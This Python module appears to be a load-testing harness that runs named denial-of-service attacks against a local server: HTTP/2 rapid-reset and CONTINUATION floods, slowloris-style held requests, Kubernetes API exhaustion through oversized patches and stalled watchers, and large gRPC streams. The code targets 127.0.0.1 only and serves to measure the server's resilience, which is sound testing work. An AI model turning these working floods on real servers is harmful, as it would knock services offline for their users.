"""Attacks, each in a process of its own: `python3 -m figures.attackers NAME HTTP_PORT API_PORT SESSIONS_PORT TOKEN`, until its input ends.

Loads are bounded, and go to this machine alone. What an attack meets (refusals, connections that end) is not an error. Attackers are
taken for other machines: they have only what nobody else wants of the processors of this one (SCHED_IDLE), so that what is measured is the
work of the server for them, and not theirs.
"""

import contextlib
import http.client
import itertools
import json
import os
import socket
import ssl
import struct
import sys
import threading

BAD_HOST = "bad.attacker.localhost"
DEPLOYMENT = "/apis/apps/v1/namespaces/attacker/deployments/bad"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
TIMEOUT_S = 10


class Target:
    """Where it is attacked."""

    def __init__(self, http_port: int, api_port: int, sessions_port: int, token: str) -> None:
        self.http_port, self.api_port, self.sessions_port, self.token = http_port, api_port, sessions_port, token
        self.over = threading.Event()
        self.tls = ssl._create_unverified_context()
        self.tls.check_hostname = False

    def connect(self, port: int) -> socket.socket:
        return socket.create_connection(("127.0.0.1", port), TIMEOUT_S)

    def connect_tls(self, port: int) -> ssl.SSLSocket:
        context = ssl._create_unverified_context()
        context.check_hostname = False
        context.set_alpn_protocols(["h2"])
        return context.wrap_socket(self.connect(port), server_hostname="localhost")

    def ask_guest(self, path: str) -> None:
        connection = http.client.HTTPConnection("127.0.0.1", self.http_port, timeout=60)
        with contextlib.closing(connection):
            connection.request("GET", path, headers={"Host": BAD_HOST})
            connection.getresponse().read()

    def ask_api(self, method: str, path: str, kind: str, body: str) -> None:
        connection = http.client.HTTPSConnection("127.0.0.1", self.api_port, timeout=120, context=self.tls)
        with contextlib.closing(connection):
            connection.request(method, path, body, {"Authorization": f"Bearer {self.token}", "Content-Type": kind})
            connection.getresponse().read()

    def again(self, attack, threads: int = 1) -> None:
        """Does it over and over, so many at a time, until told to end."""
        def repeat() -> None:
            while not self.over.is_set():
                with contextlib.suppress(OSError, http.client.HTTPException):
                    attack()

        running = [threading.Thread(target=repeat, daemon=True) for _ in range(threads)]
        for thread in running:
            thread.start()
        self.over.wait()

    def hold(self, make, count: int) -> None:
        """Holds so many of what it makes, until told to end; those that are ended are not made anew."""
        held = []
        for _ in range(count):
            with contextlib.suppress(OSError):
                held.append(make())
        self.over.wait()


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: str, value: str) -> bytes:
    return bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


HEAD = b"".join(
    literal(name, value)
    for name, value in [(":method", "GET"), (":scheme", "http"), (":path", "/env"), (":authority", BAD_HOST)]
)


def _flood(target: Target, frames) -> None:
    with target.connect(target.http_port) as connection:
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        for each in frames:
            if target.over.is_set():
                return
            connection.sendall(each)


def nothing(target: Target) -> None:
    """What the machine does to the figures by itself, to hold the others against."""
    target.over.wait()


def resets(target: Target) -> None:
    def reset(stream: int) -> bytes:
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, HEAD) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))

    target.again(lambda: _flood(target, map(reset, range(1, 40_000, 2))), 4)


def continuations(target: Target) -> None:
    more = frame(CONTINUATION, 0, 1, literal("x-more", "a" * 120) * 100)
    endless = itertools.chain([frame(HEADERS, END_STREAM, 1, HEAD)], itertools.repeat(more, 10_000))
    target.again(lambda: _flood(target, endless), 4)


def slow_heads(target: Target) -> None:
    def begin() -> socket.socket:
        connection = target.connect(target.http_port)
        connection.sendall(f"POST /echo HTTP/1.1\r\nHost: {BAD_HOST}\r\n".encode())
        return connection

    target.hold(begin, 1000)


def sleeping_requests(target: Target) -> None:
    def begin() -> socket.socket:
        connection = target.connect(target.http_port)
        connection.sendall(f"GET /sleep?ms=5000 HTTP/1.1\r\nHost: {BAD_HOST}\r\n\r\n".encode())
        return connection

    target.hold(begin, 2000)


def guest_log_lines(target: Target) -> None:
    target.again(lambda: target.ask_guest("/call/log?bytes=4000&count=110000"), 2)


def guest_compare_and_swaps(target: Target) -> None:
    target.again(lambda: target.ask_guest("/held/cas?bytes=1000000&count=300&ms=500"), 2)


def guest_bodies(target: Target) -> None:
    target.again(lambda: target.ask_guest("/held/bodies?bytes=1000000&count=1000&ms=500"), 2)


def guest_random_bytes(target: Target) -> None:
    target.again(lambda: target.ask_guest("/call/random?bytes=65536&times=1000"), 2)


def anonymous_api_connections(target: Target) -> None:
    def begin() -> socket.socket:
        connection = target.connect_tls(target.api_port)
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        return connection

    target.hold(begin, 512)


def stalled_watchers(target: Target) -> None:
    def begin() -> socket.socket:
        connection = target.tls.wrap_socket(target.connect(target.api_port))
        path = "/api/v1/namespaces/attacker/configmaps?watch=1"
        connection.sendall(f"GET {path} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {target.token}\r\n\r\n".encode())
        return connection

    for number in range(20):
        object_ = {"metadata": {"name": f"large-{number}"}, "data": {"a": "a" * 500_000}}
        path = "/api/v1/namespaces/attacker/configmaps"
        with contextlib.suppress(OSError):
            target.ask_api("POST", path, "application/json", json.dumps(object_))
    target.hold(begin, 200)


def strategic_merges(target: Target) -> None:
    variables = [{"name": f"V{number}", "value": "1"} for number in range(30_000)]
    patch = json.dumps({"spec": {"template": {"spec": {"containers": [{"name": "bad", "env": variables}]}}}})
    kind = "application/strategic-merge-patch+json"
    target.again(lambda: target.ask_api("PATCH", f"{DEPLOYMENT}?dryRun=All", kind, patch), 2)


def copying_patches(target: Target) -> None:
    copies = [{"op": "add", "path": "/metadata/annotations/a", "value": "a" * 1000}]
    copies += [{"op": "copy", "from": "/metadata/annotations", "path": f"/metadata/annotations/b{number}"} for number in range(40)]
    patch = json.dumps(copies)
    target.again(lambda: target.ask_api("PATCH", f"{DEPLOYMENT}?dryRun=All", "application/json-patch+json", patch), 2)


def strangers_at_the_sessions_port(target: Target) -> None:
    def send() -> None:
        with target.connect_tls(target.sessions_port) as connection:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + _call())
            message = struct.pack(">BI", 0, 60 << 20)
            connection.sendall(frame(0, 0, 1, message))
            for _ in range(4000):
                connection.sendall(frame(0, 0, 1, bytes(16_000)))

    target.again(send, 12)


def _call() -> bytes:
    fields = [
        (":method", "POST"), (":scheme", "https"), (":path", "/sampan.v1.ControlPlane/Certify"), (":authority", "a"),
        ("content-type", "application/grpc"), ("te", "trailers"),
    ]
    return frame(HEADERS, END_HEADERS, 1, b"".join(literal(name, value) for name, value in fields))


ATTACKS = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        nothing, resets, continuations, slow_heads, sleeping_requests, guest_log_lines, guest_compare_and_swaps, guest_bodies,
        guest_random_bytes, anonymous_api_connections, stalled_watchers, strategic_merges, copying_patches,
        strangers_at_the_sessions_port,
    )
}


def main() -> None:
    name, http_port, api_port, sessions_port, token = sys.argv[1:]
    target = Target(int(http_port), int(api_port), int(sessions_port), token)

    def until_the_end_of_input() -> None:
        sys.stdin.read()
        target.over.set()

    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    threading.Thread(target=until_the_end_of_input, daemon=True).start()
    ATTACKS[name](target)


if __name__ == "__main__":
    main()
